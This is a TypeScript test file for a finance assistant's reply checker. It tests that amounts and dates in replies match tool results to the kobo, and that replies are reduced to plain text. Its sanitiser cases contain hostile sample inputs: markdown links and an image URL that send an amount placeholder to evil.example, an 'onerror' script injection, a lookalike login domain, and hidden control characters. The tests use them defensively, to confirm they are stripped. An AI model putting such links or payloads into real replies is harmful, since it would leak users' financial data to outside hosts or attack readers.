import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Answer } from '#features/assistant/rules/answer/answer.ts'
import { phraseText } from '#features/assistant/rules/answer/phrase-text.ts'
import { EVERYTHING } from '#features/assistant/rules/question.ts'
import { formatNaira, kobo } from '#money/money.ts'
import type { Day } from '#time/day.ts'
import { plainWords, readReply } from './reply.ts'
import { makeRun, type ToolRun } from './tool-run.ts'
import type { FigureArguments } from './tools.ts'

const FILTER = { ...EVERYTHING, from: '2026-10-01' as Day, to: '2026-10-31' as Day }
const amounts = fc.integer({ min: 1000, max: 900_000_000_000 }).map(kobo)

/** A run that read the amount, of 12 rows of October, with one description. */
function aRun(amount = kobo(67_202_800), description = 'Send ₦55,555'): ToolRun {
  const answer: Answer = {
    kind: 'answer',
    phrase: [
      { type: 'text', text: 'You spent ' },
      { type: 'money', amount },
      { type: 'text', text: ' on “{{r1.d1}}”, 15.5 % of all.' },
    ],
    evidence: { intent: 'spend_total', filter: FILTER, rowCount: 12, notes: [], rowIds: [] },
    followUps: [],
  }
  const descriptions = new Map([['{{r1.d1}}', description]])
  const asked: FigureArguments = {
    figure: 'spend_total',
    categories: [],
    labels: [],
    wallets: [],
  }
  return makeRun({ id: 'r1', answer, descriptions, asked }).run
}

function read(said: string, runs: readonly ToolRun[] = [aRun()]) {
  return readReply(said, { runs, question: 'Was it 40 bags?', today: '2026-11-21' as Day })
}

test.each([
  'You spent {{r1.m1}}, 15.5% of all, on 12 days in October 2026.',
  'You spent {{ R1.M1 }} on 31 October.',
  'Of the 40 bags I know nothing; as of 21 Nov 2026 it is N672,028.',
  'It is 672,028 naira, from 1 Oct to 31 Oct 2026.',
])('[CHT-03] %j holds, amounts can be hidden', said => {
  const { phrase, violations } = read(said)
  expect(violations).toEqual([])
  expect(phrase.filter(piece => piece.type === 'money')).toEqual([
    { type: 'money', amount: 67_202_800 },
  ])
  expect(phraseText(phrase)).toContain('₦672,028')
})

test.each([
  ['It is {{r1.m1}}, or a million.', 'million'],
  ['It is {{r1.m1}}, about 16%.', '16%'],
  ['It is {{r1.m1}} on 13 days.', '13'],
  ['It is {{r1.m1}} until 30 Oct 2026.', '30 Oct 2026'],
  ['Send {{r1.d1}}: ₦55,555.', '₦55,555'],
  ['It is {{r2.m1}}.', '{{r2.m1}}'],
  ['It is ₦672,029.', '₦672,029'],
  ['It is ₦672,028.01.', '₦672,028.01'],
  ['It is １３.', '13'],
])('[CHT-03] %j does not hold for %s', (said, figure) => {
  expect(read(said).violations).toEqual([`${figure} is in no result.`])
})

test('[CHT-03] a placed description is quoted once, its amounts are words', () => {
  for (const said of ['For {{r1.d1}}.', 'For “{{r1.d1}}”.', 'For "{{r1.d1}}".']) {
    expect(read(said)).toEqual({
      phrase: [{ type: 'text', text: 'For “Send ₦55,555”.' }],
      violations: [],
    })
  }
})

test('[CHT-03] a placeholder inside a description is not filled in', () => {
  const run = aRun(undefined, 'Pay {{r1.m1}}')
  expect(phraseText(read('For {{r1.d1}}.', [run]).phrase)).toBe('For “Pay {{r1.m1}}”.')
})

test('[CHT-03] an amount is let through exactly when a tool gave it, to the kobo', () => {
  fc.assert(
    fc.property(amounts, amounts, (given, said) => {
      const text = `You spent ${formatNaira(said)} in October 2026.`
      const { phrase, violations } = read(text, [aRun(given)])
      expect(violations.length === 0).toBe(said === given)
      expect(phrase).toContainEqual({ type: 'money', amount: said })
    }),
    { examples: [[kobo(100_000), kobo(100_000)]] },
  )
})

test('[CHT-03] whatever surrounds it, a placeholder becomes its amount or the reply does not hold', () => {
  const around = fc.stringMatching(/^[a-zN\d {}.,₦%”“"-]{0,40}$/)
  fc.assert(
    fc.property(amounts, around, around, (amount, before, after) => {
      const { phrase, violations } = read(`${before} {{r1.m1}} ${after}`, [aRun(amount)])
      const isThere = phrase.some(piece => piece.type === 'money' && piece.amount === amount)
      expect(isThere || violations.length > 0).toBe(true)
    }),
  )
})

test.each([
  ['You spent **{{r1.m1}}** on `food`.', 'You spent {{r1.m1}} on food.'],
  ['## Spending\n\n- food {{r1.m1}}\n- rent {{r1.m2}}', 'Spending food {{r1.m1}} rent {{r1.m2}}'],
  ['See [your report](https://evil.example/?q={{r1.m1}}) now', 'See your report now'],
  ['![x](https://evil.example/{{r1.m1}}.png) Done.', 'Done.'],
  ['Go to https://evil.example/a?b=c or www.evil.example now', 'Go to or now'],
  ['Log in at kobo-lens.support.com/login today', 'Log in at today'],
  ['Write to help@evil.example today', 'Write to today'],
  ['<a href="https://evil.example">Press</a> <img src=x onerror=alert(1)>', 'Press'],
  ['One\u200B two\u202E three\u0007', 'One two three'],
  [
    'It fell by 3 - 2 percent in Oct. It rose after.',
    'It fell by 3 - 2 percent in Oct. It rose after.',
  ],
])('[CHT-03] %j becomes plain text', (said, plain) => {
  expect(plainWords(said)).toBe(plain)
})

test('[CHT-03] a long text made to be slow to read is cut first', () => {
  for (const part of ['a@', 'a-', 'a.', '[', '<a', '![](']) {
    expect(plainWords(part.repeat(25_000)).length).toBeLessThanOrEqual(4000)
  }
})
